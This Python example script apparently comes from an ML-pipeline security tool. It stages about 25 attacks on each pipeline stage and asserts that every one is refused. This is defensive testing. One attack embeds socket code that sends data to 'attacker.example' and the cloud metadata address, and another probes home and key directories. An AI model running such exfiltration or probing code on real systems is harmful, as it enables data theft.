"""What an attacker tries at each stage of the pipeline, and the code with which each is refused.

    python examples/mlops/attacks.py

Every attack acts with rights that somebody really has: another job's token, a stolen key, a disk to write to. Each
returns what it was told; getting through is an error.
"""

import json
import shutil
import sys
import tempfile
from collections.abc import Callable
from pathlib import Path
from typing import Any, NamedTuple

import httpx
from pipeline import deploy, features, ingest, predict, promote, register, sign, train, validate
from world import CI, DEPLOYER, ENDPOINT, FEATURES, MODEL, RAW, SET, VALIDATION, World, base64

from ostiary.keys import ES256, SigningKey
from ostiary.keys.curves import CurveKey
from ostiary_sdk import LoadError, load_model
from ostiary_sdk.features import FeatureError, Features
from ostiary_sdk.inference import NoInferenceError
from ostiary_sdk.pipeline import Access, ExchangedToken, TokenError

ROW = {"log_amount": 5.2, "night": 1, "abroad": 1}


class Made(NamedTuple):
    """What an honest pipeline has made so far."""

    run: Path
    signed: dict[str, Any]
    report: Path
    version: int
    loaded: Any


def build(world: World) -> Made:
    """Run the honest pipeline."""
    ingest(world)
    features(world)
    run = train(world)
    signed = sign(world, run)
    report = validate(world, run, signed)
    version = register(world, run)
    promote(world, version, report)
    return Made(run, signed, report, version, deploy(world))


def refused(act: Callable[[], Any]) -> str:
    """Return what an attack was told; one that gets through is an error."""
    try:
        got = act()
    except (LoadError, NoInferenceError, TokenError, FeatureError, OSError) as no:
        body = getattr(no, "body", b"")
        return f"{no} {body.decode() if isinstance(body, bytes) else body}"
    raise AssertionError(f"the attack got through: {got!r:.200}")


# Ingest: what comes in.


def a_fork_asks_for_a_token(world: World, _made: Made) -> str:
    """A job of a repository that nobody let in asks for a token of the dataset."""
    fork = ExchangedToken(
        world.url,
        "default",
        lambda: world.platform_token("github:owner:9919:repository:666"),
        Access("ostiary_dataset", RAW, ("dataset.write",), stage="ingest"),
    )
    return refused(lambda: fork.headers("GET", world.url))


def a_reader_writes(world: World, _made: Made) -> str:
    """The validation job, which may read, puts rows of its own into the dataset."""
    files = world.files(VALIDATION, "validate", "dataset.write")

    def write() -> None:
        with files.open(f"{RAW}/2027.csv", "xb") as file:
            file.write(b"amount,hour,abroad,fraud\n1,1,0,0\n")

    return refused(write)


def rows_are_poisoned_on_the_disk(world: World, _made: Made) -> str:
    """Somebody with the disk changes a training row after it was signed."""
    place = world.lake / FEATURES / "train.csv"
    honest = place.read_bytes()
    place.write_bytes(honest.replace(b",1\n", b",0\n", 50))
    try:
        return refused(lambda: train(world))
    finally:
        place.write_bytes(honest)


# Features: what is made of it.


def another_purpose(world: World, _made: Made) -> str:
    """The feature job wants the rows for advertising."""
    detail = Access("ostiary_dataset", RAW, ("dataset.read",), purpose="advertising", stage="features")
    tokens = ExchangedToken(world.url, "default", lambda: world.platform_token(CI), detail)
    return refused(lambda: world.post(tokens, f"datasets/{RAW}/objects/2026.csv", "GET"))


def a_token_for_another_dataset(world: World, _made: Made) -> str:
    """A token for the features is shown for the raw rows."""
    tokens = world.tokens(CI, "dataset", FEATURES, "dataset.read", stage="train")
    return refused(lambda: world.post(tokens, f"datasets/{RAW}/objects/2026.csv", "GET"))


def the_serving_stage_reads_labels(world: World, _made: Made) -> str:
    """The program that serves asks the feature set for the answers."""
    with Features(world.url, "default", world.columns(DEPLOYER, "features.read", stage="serve")) as door:
        return refused(lambda: door.query(SET, "SELECT payment, fraud FROM payments"))


def labels_by_another_name(world: World, _made: Made) -> str:
    """The same, by the whole row."""
    with Features(world.url, "default", world.columns(DEPLOYER, "features.read", stage="serve")) as door:
        told = door.query(SET, "SELECT to_json(p) AS everything FROM payments p LIMIT 1").to_pylist()
    return "no label" if "fraud" not in str(told) else f"it read {told}"


def a_manifest_of_a_stranger(world: World, _made: Made) -> str:
    """Features are signed by a key that the dataset does not know."""
    stranger = SigningKey.generate("features", ES256)
    (world.keys / "stranger.pem").touch(mode=0o600)
    (world.keys / "stranger.pem").write_bytes(stranger.private_pem())
    words = ("dataset", "manifest", FEATURES, "--producer", "features", "--key", world.key("stranger"))
    return str(world.ostiary(*words, fails=True))


# Training: what it is made with.


def training_reads_another_dataset(world: World, _made: Made) -> str:
    """The job trains on raw rows, which were released for making features alone."""
    return _train(world, RAW, "pass")


def training_looks_around(world: World, _made: Made) -> str:
    """The code looks for other data, for keys and for the server's files."""
    look = "/data/transactions", str(world.data), str(world.keys), "/root", "/home", "/var/lib"
    code = f"import os, sys; sys.exit(any(os.path.exists(p) and os.listdir(p) for p in {look!r}))"
    return "nothing there" if not _train_status(world, code) else "it saw something"


def training_calls_home(world: World, _made: Made) -> str:
    """The code sends its rows away: by name, by address, by the way to the server."""
    port = world.url.rpartition(":")[2]
    where = ("attacker.example", 443), ("1.1.1.1", 53), ("127.0.0.1", int(port)), ("169.254.169.254", 80)
    code = (
        "import socket, sys\n"
        f"for host in {where!r}:\n"
        "    try: socket.create_connection(host, 2).sendall(b'rows'); sys.exit(1)\n"
        "    except OSError: pass\n"
    )
    return "nobody was reached" if not _train_status(world, code) else "somebody was reached"


def training_wants_a_way_out(world: World, _made: Made) -> str:
    """The job asks for egress that policy does not list."""
    return _train(world, FEATURES, "pass", "--egress", "attacker.example:443")


# Signing, validation and registration: what is vouched for.


def weights_are_swapped_after_signing(world: World, made: Made) -> str:
    """The weights are other ones by the time that they are registered."""
    run = _copy(world, made, "swapped")
    data = bytearray((run / "outputs" / "model.safetensors").read_bytes())
    data[-1] ^= 0x40
    (run / "outputs" / "model.safetensors").write_bytes(data)
    return refused(lambda: register(world, run))


def a_stranger_signs(world: World, made: Made) -> str:
    """Other weights are signed by a key that nobody pinned."""
    run = _copy(world, made, "stranger")
    (world.keys / "thief.pem").touch(mode=0o600)
    (world.keys / "thief.pem").write_bytes(CurveKey.generate("P-256").private_pem())
    outputs = run / "outputs"
    (outputs / "model.sig").unlink()
    world.ostiary("model", "sign", str(outputs), "--name", MODEL, "--key", world.key("thief"), "--json")
    return refused(lambda: register(world, run))


def weights_that_no_run_made(world: World, made: Made) -> str:
    """The signing key is stolen: weights of nowhere are signed, and come with the provenance of an honest run."""
    run = _copy(world, made, "nowhere")
    outputs = run / "outputs"
    data = bytearray((outputs / "model.safetensors").read_bytes())
    data[-2] ^= 0x01
    (outputs / "model.safetensors").write_bytes(data)
    (outputs / "model.sig").unlink()
    world.ostiary("model", "sign", str(outputs), "--name", MODEL, "--key", world.key("signer"), "--json")
    return refused(lambda: register(world, run))


def the_signer_validates(world: World, made: Made) -> str:
    """Whoever signs the model writes the validation report, too."""
    report = world.root / "own-report.json"
    (world.root / "own-metrics.json").write_text(json.dumps({"accuracy": 1.0}))
    about = ("--digest", made.signed["root"], "--statement", made.signed["digest"])
    words = (*about, "--metrics", str(world.root / "own-metrics.json"), "--key", world.key("signer"))
    world.ostiary("model", "report", MODEL, *words, "--out", str(report))
    return refused(lambda: promote(world, made.version, report))


# Promotion: what becomes live.


def one_person_approves_alone(world: World, made: Made) -> str:
    """Alice approves, and signs for Bob as well."""
    wanted, one, both = (world.root / f"alone-{name}.json" for name in ("wanted", "one", "both"))
    asked = world.ostiary(
        "model", "wanted", MODEL, str(made.version), "--stage", "production", "--report", str(made.report)
    )
    wanted.write_text(json.dumps(asked))
    world.ostiary("model", "approve", "--wanted", str(wanted), "--key", world.key("alice"), "--out", str(one))
    world.ostiary("model", "approve", "--approval", str(one), "--key", world.key("alice"), "--out", str(both))
    return refused(lambda: _promote(world, "rita", made, both))


def an_approval_is_used_again(world: World, made: Made) -> str:
    """The approval of the first promotion is shown once more."""
    return refused(lambda: _promote(world, "rita", made, world.root / "both.json"))


def ci_promotes_its_own_model(world: World, made: Made) -> str:
    """The job that trained the model makes it live."""
    return refused(lambda: _promote(world, CI, made, world.root / "both.json"))


# Deployment: what is loaded.


def ci_loads_from_production(world: World, _made: Made) -> str:
    """The job that trained the model loads it where it is live."""
    tokens = world.tokens(CI, "model", MODEL, "model.load", stage="production")
    return refused(lambda: _load(world, tokens))


def files_are_swapped_in_the_registry(world: World, made: Made) -> str:
    """Somebody with the registry's disk puts other weights there."""
    stored = _blob(world, made)
    honest, mode = stored.read_bytes(), stored.stat().st_mode
    stored.chmod(0o600)
    stored.write_bytes(honest[:-1] + bytes([honest[-1] ^ 1]))
    try:
        return refused(lambda: _load(world, world.tokens(DEPLOYER, "model", MODEL, "model.load", stage="production")))
    finally:
        stored.write_bytes(honest)
        stored.chmod(mode)


# Prediction: who asks what.


def an_api_key_asks(world: World, _made: Made) -> str:
    """Somebody found the program's API key."""
    url = f"{world.url}/pipeline/default/inference/{ENDPOINT}/predict"
    key = {"Authorization": f"Bearer {world.server.pep_key}"}
    return httpx.post(url, headers=key, json={"instances": [ROW]}, timeout=30).text


def rows_that_training_never_saw(world: World, made: Made) -> str:
    """An asker sends what the model was not trained on."""
    return refused(lambda: predict(world, made.loaded, "ada", {**ROW, "log_amount": 1e6}))


def somebody_else_asks(world: World, made: Made) -> str:
    """Somebody who signed in and has no right to ask."""
    return refused(lambda: predict(world, made.loaded, "rita", ROW))


def the_boundary_is_searched(world: World, made: Made) -> str:
    """An asker walks along the model's boundary, in ever smaller steps."""

    def search() -> None:
        low, high = 0.0, 12.0
        for number in range(200):
            middle = (low + high) / 2 + number * 1e-9
            told = predict(world, made.loaded, "ada", {**ROW, "night": 0, "abroad": 0, "log_amount": middle})
            label = told["predictions"][0]
            bad = label == "bad" if isinstance(label, str) else label > 0.5
            low, high = (low, middle) if bad else (middle, high)

    return refused(search)


# How they do it.


def _train(world: World, dataset: str, code: str, *more: str) -> str:
    return str(_run(world, dataset, code, *more, fails=True))


def _train_status(world: World, code: str) -> int:
    try:
        return int(_run(world, FEATURES, code)["status"])
    except PermissionError:
        return 1


def _run(world: World, dataset: str, code: str, *more: str, fails: bool = False) -> Any:
    (world.root / "attack.jwt").write_text(world.platform_token(CI))
    job = ("--subject", f"ci_job:{CI}", "--token-file", str(world.root / "attack.jwt"), "--json")
    words = ("train", "run", "--pipeline", MODEL, "--dataset", dataset, *job, *(more or ("--no-egress",)))
    return world.ostiary(*words, "--", "python3", "-c", code, fails=fails)


def _copy(world: World, made: Made, name: str) -> Path:
    return Path(shutil.copytree(made.run, world.root / f"run-{name}"))


def _promote(world: World, who: str, made: Made, approval: Path) -> Any:
    tokens = world.tokens(who, "model", MODEL, "model.promote", stage="production")
    body = {"report": base64(made.report.read_bytes()), "approval": base64(approval.read_bytes())}
    told = {"version": made.version, "stage": "production", **body}
    return world.post(tokens, f"models/{MODEL}/promote", json=told)


def _load(world: World, tokens: ExchangedToken) -> Any:
    return load_model(MODEL, stage="production", url=world.url, tenant="default", tokens=tokens, trust=world.trust)


def _blob(world: World, made: Made) -> Path:
    weights = (made.run / "outputs" / "model.safetensors").read_bytes()
    found = [path for path in world.data.rglob("*") if path.is_file() and path.stat().st_size == len(weights)]
    return next(path for path in found if path.read_bytes() == weights and "training" not in path.parts)


ATTACKS: dict[Callable[[World, Made], str], str] = {
    a_fork_asks_for_a_token: "invalid",
    a_reader_writes: "denied",
    rows_are_poisoned_on_the_disk: "manifest",
    another_purpose: "denied",
    a_token_for_another_dataset: "token_other_resource",
    the_serving_stage_reads_labels: "column",
    labels_by_another_name: "no label",
    a_manifest_of_a_stranger: "manifest",
    training_reads_another_dataset: "dataset",
    training_looks_around: "nothing there",
    training_calls_home: "nobody was reached",
    training_wants_a_way_out: "approved for it",
    weights_are_swapped_after_signing: "artifact",
    a_stranger_signs: "artifact",
    weights_that_no_run_made: "provenance_other_model",
    the_signer_validates: "report",
    one_person_approves_alone: "approv",
    an_approval_is_used_again: "approv",
    ci_promotes_its_own_model: "denied",
    ci_loads_from_production: "denied",
    files_are_swapped_in_the_registry: "file_broke_off",
    an_api_key_asks: "api_key_not_enough",
    rows_that_training_never_saw: "input_range",
    somebody_else_asks: "access_denied",
    the_boundary_is_searched: "model-probing",
}
"""Each attack with what its refusal says, in the order of the stages; the last one costs its asker the model."""


def main() -> None:
    """Run the pipeline, then every attack on it."""
    with tempfile.TemporaryDirectory() as name, World(Path(name) / "world") as world:
        made = build(world)
        for attack, wanted in ATTACKS.items():
            told = attack(world, made)
            if wanted not in told:
                raise AssertionError(f"{attack.__name__}: {told}")
            sys.stdout.write(f"{attack.__name__.replace('_', ' '):40} {' '.join(told.split())[:150]}\n")


if __name__ == "__main__":
    main()
